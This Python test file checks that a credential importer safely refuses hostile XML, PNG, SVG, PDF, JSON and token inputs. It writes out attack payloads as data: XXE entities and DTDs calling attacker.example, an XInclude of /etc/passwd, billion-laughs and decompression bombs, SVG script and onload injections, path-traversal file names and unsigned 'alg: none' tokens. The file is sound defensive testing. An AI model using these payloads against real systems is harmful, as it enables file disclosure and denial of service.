"""Attack files of threats E1–E9: each a coded refusal or the right reading, in bounded memory.

Memory and the ten seconds of a document are held by reading in a process of its own. Nothing may
open a socket while a file is read.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import socket
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from credential_builders import (
    EDC,
    SUPPLEMENT,
    badge,
    chunk,
    elmo,
    itxt,
    pdf,
    png,
    presentation,
    svg,
    token,
)

from service.errors import InputError
from service.importing.detection import read_credential, read_credential_file

HARD_LIMIT_SECONDS = 10
MOST_MEGABYTES = 256
_MEASURED = """
import resource, sys
from service.errors import InputError
from service.importing.detection import read_credential
data = sys.stdin.buffer.read()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    read_credential(data, "x")
    print("read")
except InputError as problem:
    print(problem.code)
grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
worker = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print(max(grown, worker))
"""


@pytest.fixture(autouse=True)
def _no_network(monkeypatch):
    def refuse(*_args, **_kwargs):
        raise AssertionError("a reader opened a socket")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def code(data: bytes) -> str:
    """The refusal of a file, or "read"."""
    try:
        read_credential(data, "x")
    except InputError as problem:
        assert problem.where.startswith("x")
        return problem.code
    return "read"


def measured(data: bytes) -> str:
    """As `code`, in a process of its own that ends within the hard limit and stays small."""
    done = subprocess.run(
        [sys.executable, "-c", _MEASURED],
        input=data,
        capture_output=True,
        timeout=3 * HARD_LIMIT_SECONDS,  # start of the process and a busy machine included
        check=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
    )
    found, grown = done.stdout.decode().split()
    assert int(grown) < MOST_MEGABYTES * 1024, f"{found}: {int(grown) // 1024} MB"
    return found


# E1: XML

NAMESPACE = b"https://github.com/emrex-eu/elmo-schemas/tree/v1"
DTD = b'<!DOCTYPE elmo SYSTEM "http://attacker.example/x.dtd">'
ENTITY = b'<!DOCTYPE elmo [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>'
LAUGHS = b"<!DOCTYPE elmo [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]>"


@pytest.mark.parametrize("declared", [DTD, ENTITY, LAUGHS, b"<!-- x -->" + DTD])
def test_a_document_type_is_refused_before_anything_is_parsed(declared):
    assert code(declared + b'<elmo xmlns="' + NAMESPACE + b'">&b;</elmo>') == "input_xml_doctype"


def test_the_bombs_of_defusedxml(shared):
    folder = shared / "suites" / "defusedxml-bombs" / "xmltestdata"
    files = sorted(folder.iterdir())
    assert len(files) > 8
    for path in files:
        with pytest.raises(InputError):
            read_credential_file(path)


def test_xinclude_and_schema_locations_are_not_followed():
    text = elmo().replace(
        b"<generatedDate>",
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
        b"<generatedDate>",
    )
    text = text.replace(
        b"<elmo ",
        b'<elmo xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        b'xsi:schemaLocation="x http://attacker.example/x.xsd" ',
    )
    file = read_credential(text, "x")
    assert file.awards[0].descriptor.titles[0].value == "Bachelor of Nautical Science"
    assert "root:" not in repr(file)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"<elmo " + b" ".join(b'a%d=""' % i for i in range(600_000)) + b"/>", None),
        (b"<a>" * 100_000, "input_too_deep"),
        (b"<a>" + b"<b/>" * 300_000 + b"</a>", "input_too_many_values"),
        (b"<a>" + b"x" * 200_000_000 + b"</a>", "input_too_large"),
        (b"<a>" + b"x" * 7_900_000 + b"</a>", "input_format_unknown"),
    ],
)
def test_large_xml_is_refused_in_bounded_memory(data, expected):
    found = measured(data)
    assert found == expected or (expected is None and found.startswith("input_"))


def test_encodings_that_trick_filters():
    assert code(b'<?xml version="1.0" encoding="UTF-7"?><elmo/>') == "input_xml_encoding"
    wrong = b"\xff\xfe" + '<?xml version="1.0" encoding="UTF-16"?><elmo/>'.encode("utf-16-be")
    assert code(wrong).startswith("input_")


def test_utf_16_with_its_mark_is_read():
    text = elmo().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    assert code(text.encode("utf-16")) == "read"


def test_a_comment_inside_a_name_does_not_cut_it():
    file = read_credential(elmo().replace(b"Rowe", b"Ro<!-- -->we"), "x")
    assert file.awards[0].holder.names[0].value == "Ada Rowe"


def signature(inside: bytes = b"") -> bytes:
    return (
        b'<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#a">'
        b'<Transforms><Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">'
        b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/></Transform>'
        b"</Transforms></Reference></SignedInfo><Object>" + inside + b"</Object></Signature>"
    )


def test_a_signed_original_hidden_in_its_signature_is_refused():
    hidden = signature(b'<learner xmlns="' + NAMESPACE + b'"/>')
    assert code(elmo().replace(b"</elmo>", hidden + b"</elmo>")) == "input_xml_wrapped"


def test_a_signature_is_named_and_its_transforms_are_left_alone():
    file = read_credential(elmo().replace(b"</elmo>", signature() * 2 + b"</elmo>"), "x")
    assert file.awards[0].proofs == ("XML Signature",)


def test_two_learners_are_refused():
    second = b"<learner><givenNames>B</givenNames><familyName>C</familyName></learner><report>"
    assert code(elmo().replace(b"<report>", second)) == "input_twice"


# E3: PNG

BADGE = json.dumps(badge()).encode()
OTHER = json.dumps(badge("Another")).encode()


def bomb(size: int = 200_000_000) -> bytes:
    engine, block, made = zlib.compressobj(9), b"\0" * 1_000_000, b""
    for _ in range(size // len(block)):
        made += engine.compress(block)
    return made + engine.flush()


@pytest.mark.parametrize(
    ("picture", "expected"),
    [
        (png(itxt(BADGE)), "read"),
        (png(itxt(BADGE, packed=True)), "read"),
        (png(itxt(BADGE, b"openbadgecredential")), "read"),
        (png(chunk(b"tEXt", b"openbadges\0" + BADGE)), "read"),
        (png(chunk(b"zTXt", b"openbadges\0\0" + zlib.compress(BADGE))), "read"),
        (png(itxt(BADGE), itxt(BADGE)), "read"),
        (png(itxt(BADGE), itxt(json.dumps(badge(), indent=2).encode())), "read"),
        (png(itxt(BADGE), itxt(OTHER)), "input_two_credentials"),
        (png(itxt(BADGE), itxt(OTHER, b"openbadgecredential")), "input_two_credentials"),
        (png(itxt(BADGE), width=50_000, height=50_000), "read"),
        (png(itxt(BADGE), after=b"<html><script>1</script>"), "read"),
        (png(after=itxt(BADGE)), "input_image_without_credential"),
        (png(), "input_image_without_credential"),
        (png(chunk(b"iTXt", b"openbadges\0\0\0\0\0" + BADGE, checksum=1)), "input_png_damaged"),
        (png(*[chunk(b"tEXt", b"a\0b")] * 100_000), "input_too_many_values"),
        (png()[:20], "input_png_damaged"),
        (png(itxt(BADGE))[:-20], "read"),
        (png(chunk(b"zTXt", b"openbadges\0\0nozlib")), "input_bad_compression"),
        *[(png(itxt(text)), None) for text in (b"{}", b"[]", b'"x"', b"null", b"{\r\n}\r\n", b"")],
    ],
)
def test_png_files(picture, expected):
    found = code(picture)
    assert found == expected or (expected is None and found.startswith("input_"))


@pytest.mark.parametrize("kind", ["iTXt", "zTXt"])
def test_a_png_bomb_is_refused_in_bounded_memory(kind):
    packed = bomb()
    body = b"openbadges\0\1\0\0\0" if kind == "iTXt" else b"openbadges\0\0"
    assert measured(png(chunk(kind.encode(), body + packed))) == "input_expands_too_far"


# E4: SVG

INSIDE = f"<openbadges:assertion><![CDATA[{BADGE.decode()}]]></openbadges:assertion>"
HOSTILE = (
    '<script>alert(1)</script><foreignObject><iframe src="file:///etc/passwd"/></foreignObject>'
    '<image xlink:href="http://attacker.example/x.png" onload="alert(1)"/>'
    '<style>@import "http://attacker.example/x.css";</style><a xlink:href="javascript:1"/>'
)


@pytest.mark.parametrize(
    ("picture", "expected"),
    [
        (svg(INSIDE), "read"),
        (svg(HOSTILE + INSIDE), "read"),
        (svg(HOSTILE), "input_image_without_credential"),
        (svg(f"<svg><g>{INSIDE}</g></svg>"), "read"),
        (svg(f'<openbadges:credential verify="{token(badge())}"/>'), "read"),
        (svg(INSIDE.replace("assertion>", "assertion verify='{}'>", 1)), "input_two_credentials"),
        (svg(INSIDE + INSIDE.replace("Teamwork", "Other")), "input_two_credentials"),
        (svg(INSIDE, '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">'), "read"),
        (svg("&a;", "<!DOCTYPE svg [<!ENTITY a 'x'>]>"), "input_xml_doctype"),
    ],
)
def test_svg_files(picture, expected):
    assert code(picture) == expected


# E5: PDF


def test_a_pdf_says_what_its_lines_say_and_no_more():
    file = read_credential(pdf(SUPPLEMENT), "x")
    assert [note.code for note in file.notes] == ["read.document_evidence"]
    assert file.awards[0].proofs == ()


def test_a_credential_attached_to_a_pdf_is_read_as_what_it_is():
    file = read_credential(pdf(SUPPLEMENT, attached=BADGE), "x")
    assert (file.presented.format, file.presented.container) == ("ob3-json", "pdf")
    assert file.presented.raw == BADGE


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (pdf(["a"], stream=bomb()), None),
        (pdf(["a"], count=100_000), "input_document_no_award"),
        (pdf(*[["a"]] * 300), "input_pdf_pages"),
        (pdf(["a"], repeat=100_000), None),
        (pdf(["a"])[:200], "input_pdf_damaged"),
        (b"%PDF-1.7\n%\xe2\xe3", "input_pdf_damaged"),
        (pdf(["a"], attached=bomb()), None),
        (pdf(["Invoice 17", "Total: 12"]), "input_document_no_award"),
    ],
)
def test_pdf_attacks_end_in_the_worker(data, expected):
    found = measured(data)
    assert found == expected or (expected is None and found.startswith("input_"))


def test_a_locked_pdf_says_so():
    from io import BytesIO

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf(["a"]))))
    writer.encrypt("secret", algorithm="RC4-128")
    target = BytesIO()
    writer.write(target)
    assert code(target.getvalue()) == "input_pdf_locked"


def test_a_scan_without_tesseract_says_that_recognition_is_missing(monkeypatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    assert code(pdf([])) == "input_ocr_missing"


# E7: JSON


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"[" * 100_000, "input_too_deep"),
        (b'{"a":' * 100_000, "input_too_deep"),
        (b'{"x": "' + b"a" * 50_000_000 + b'"}', "input_too_large"),
        (b'{"learningOutcome": [' + b'{"a":1},' * 990_000 + b"{}]}", "input_too_many_values"),
        (b"{" + b",".join(b'"%d":0' % i for i in range(700_000)) + b"}", "input_too_many_values"),
    ],
)
def test_large_json_is_refused_in_bounded_memory(data, expected):
    assert measured(data) == expected


def test_text_that_cannot_be_stored_is_refused():
    assert code(BADGE.replace(b"Teamwork", b"\\ud800")) == "input_bad_character"
    assert code(BADGE.replace(b"Teamwork", b"\\u0000")) == "input_bad_character"
    assert code(b"\xef\xbb\xbf" + BADGE) == "read"


def test_the_parsing_suite_gives_codes_only(shared):
    files = sorted((shared / "suites" / "json-parsing-testsuite").rglob("*.json"))
    assert len(files) > 300
    for path in files:
        assert code(path.read_bytes()).startswith("input_"), path.name


# E8 and E9: names that lie


@pytest.mark.parametrize("name", ["../../app/x.py", "C:\\x", "a\0.json", "x" * 4096, "CON", "🎓"])
def test_a_name_is_only_repeated_never_used(name):
    assert read_credential(BADGE, name).awards
    with pytest.raises(InputError) as caught:
        read_credential(b"{}", name)
    assert caught.value.where == name


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("badge.json", png(itxt(BADGE)), "read"),
        ("badge.png", BADGE, "read"),
        ("badge.pdf", svg(INSIDE), "read"),
        ("badge.json", gzip.compress(BADGE), "read"),
        ("elmo.txt", base64.b64encode(gzip.compress(elmo())), "read"),
        ("badge.json", b"<html><body>502 Bad Gateway</body></html>", "input_web_page"),
        ("badge.json", b"<!DOCTYPE html><title>x</title>", "input_web_page"),
        ("badge.json", b"", "input_empty"),
        ("badge.json", b"x", "input_format_unknown"),
        ("badge.json", b"\0" * 4096, "input_empty"),
        ("badge.json", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "input_image_without_credential"),
        ("badge.png", b'{"some": "stuff"}', "input_format_unknown"),
        ("badge.json", b'{"a": }', "input_not_json"),
        ("elmo.xml", gzip.compress(bomb(50_000_000)), None),
        ("elmo.xml", gzip.compress(elmo())[:-10], "input_bad_compression"),
    ],
)
def test_only_the_content_counts(name, data, expected):
    try:
        read_credential(data, name)
        found = "read"
    except InputError as problem:
        found = problem.code
    assert found == expected or (expected is None and found.startswith("input_"))


def test_a_gzip_bomb_is_refused_in_bounded_memory():
    assert measured(gzip.compress(b"\0" * 300_000_000)) == "input_expands_too_far"


# B6 and C10: wrappers


def test_presentations_inside_presentations_are_cut_off():
    nested = badge()
    for _ in range(5):
        nested = presentation(nested)
    with pytest.raises(InputError) as caught:
        read_credential(json.dumps(nested).encode(), "x")
    assert caught.value.code == "input_credentials_too_deep"
    for _ in range(100):
        nested = presentation(nested)
    assert code(json.dumps(nested).encode()) == "input_too_deep"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (token(badge()).replace(".", "", 1), None),
        (token(badge(), {"alg": "none", "x": "y" * 70_000}), "input_too_large"),
        (".".join(["eyJh"] * 100), None),
        (token(badge()) + "~", "input_format_not_yet"),
        ("eyJhbGciOiJFUzI1NiJ9.eyJ=.c2ln", "input_bad_payload"),
        (token([1]), "input_bad_payload"),
    ],
)
def test_tokens_that_are_none(text, expected):
    found = code(text.encode())
    assert found == expected or (expected is None and found.startswith("input_"))


def test_the_wrapped_xml_of_europass_is_read_by_its_references():
    assert code(EDC.encode()) == "read"
